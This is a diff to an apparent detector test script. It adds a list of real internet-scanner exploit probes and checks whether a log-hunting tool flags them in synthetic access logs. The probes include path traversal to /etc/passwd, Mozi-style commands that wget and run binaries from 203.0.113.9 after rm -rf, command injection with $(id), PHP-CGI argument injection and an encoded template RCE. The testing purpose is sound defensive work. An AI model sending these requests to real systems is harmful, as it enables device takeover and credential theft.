@@ -266,6 +266,73 @@ CRON_LINES = [
     ('Feb 29 16:11:00 web1 CRON[2103]: (root) CMD (/usr/bin/certbot renew --quiet)', False),
 ]
 
+# Requests internet scanners send for products and devices (exploit and console probes).
+EXPLOIT_PROBES = [
+    '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh',
+    '/cgi-bin/.%%32%65/.%%32%65/.%%32%65/.%%32%65/etc/passwd',
+    '/icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd',
+    '/boaform/admin/formLogin?username=admin&psd=admin',
+    '/GponForm/diag_Form?images/',
+    '/shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.9/Mozi.a;chmod+777+Mozi.a;/tmp/Mozi.a+jaws',
+    '/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://203.0.113.9/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1',
+    '/HNAP1/',
+    '/?XDEBUG_SESSION_START=phpstorm',
+    '/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP',
+    '/solr/admin/info/system?wt=json',
+    '/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession',
+    '/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)',
+    '/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php',
+    '/actuator/gateway/routes',
+    '/_ignition/execute-solution',
+    '/console/login/LoginForm.jsp',
+    '/manager/html',
+    '/jmx-console/',
+    '/invoker/JMXInvokerServlet',
+    '/mgmt/tm/util/bash',
+    '/cgi-bin/authLogin.cgi',
+    '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
+    '/owa/auth/x.js',
+    '/autodiscover/autodiscover.json?@zdi/Powershell',
+    '/api/v1/totp/user-backup-code/../../license/keys-status/%3bid',
+    '/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/',
+    '/webtools/control/main?USERNAME=&PASSWORD=&requirePasswordChange=Y',
+    '/cgi-bin/kerbynet?Section=NoAuthREQ&Action=x509List&type=*%22;id;%22',
+    '/ws/v1/cluster/apps/new-application',
+    '/containers/json',
+    '/v1.24/containers/json',
+    '/api/jsonws/invoke',
+    '/struts2-showcase/index.action',
+    '/hudson/script',
+    '/script',
+    '/jenkins/script',
+    '/.env',
+    '/admin/config.php',
+    '/phpmyadmin/index.php',
+    '/pma/',
+    '/wls-wsat/CoordinatorPortType',
+    '/_async/AsyncResponseService',
+    '/uddiexplorer/SearchPublicRegistries.jsp',
+    '/cgi-bin/test-cgi',
+    '/cgi-bin/php?%2D%64+%61%6C%6C%6F%77%5F%75%72%6C%5F%69%6E%63%6C%75%64%65%3D%6F%6E+%2D%64+%61%75%74%6F%5F%70%72%65%70%65%6E%64%5F%66%69%6C%65%3D%70%68%70%3A%2F%2F%69%6E%70%75%74',
+    '/index.php?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp%3a//input',
+    '/hello.world?%ADd+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input',
+    '/device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___&mdb=sos&mdc=cd%20%2Ftmp%3Bwget%20http%3A%2F%2F203.0.113.9%2Fx',
+    '/picsdesc.xml',
+    '/ctrlt/DeviceUpgrade_1',
+    '/Autodiscover/Autodiscover.xml',
+    '/geoserver/web/',
+    '/nice%20ports%2C/Tri%6Eity.txt%2ebak',
+    '/sdk',
+    '/evox/about',
+    '/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php',
+    '/wp-content/plugins/revslider/temp/update_extract/revslider/x.php',
+    '/index.php?option=com_jce&task=plugin&plugin=imgmanager&file=imgmanager&method=form',
+    '/public/index.php?s=captcha',
+    '/plugins/weathermap/editor.php',
+    '/mifs/.;/services/LogService',
+    '/catalog-portal/ui/oauth/verify?error=&deviceUdid=%24%7b%22%66%72%65%65%6d%61%72%6b%65%72%2e%74%65%6d%70%6c%61%74%65%2e%75%74%69%6c%69%74%79%2e%45%78%65%63%75%74%65%22%3f%6e%65%77%28%29%28%22%69%64%22%29%7d',
+]
+
 
 def enc(p, how):
     if how == 0:  # as a browser sends it
@@ -333,6 +400,14 @@ def main():
     if show_misses:
         for cls, how, p in misses:
             print("MISS", cls, "encoding", how, p)
+    probes = [f'203.0.113.{i % 200 + 1} - - [29/Feb/2024:17:{i % 60:02d}:00 +0000] '
+              f'"GET {p} HTTP/1.1" 404 196 "-" "{BROWSER}"' for i, p in enumerate(EXPLOIT_PROBES)]
+    found = hunt(shodo, probes, os.path.join(work, "probes.log"))
+    print(f"exploit and console probes detected: {len(found)} / {len(EXPLOIT_PROBES)}")
+    if show_misses:
+        for n, p in enumerate(EXPLOIT_PROBES, 1):
+            if n not in found:
+                print("MISS probe", p)
     ua = ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 "
           "(KHTML, like Gecko) Version/17.2 Mobile/15E148 Safari/604.1")
     benign = [f'198.51.100.{i % 200 + 1} - - [29/Feb/2024:16:{i % 60:02d}:00 +0000] '
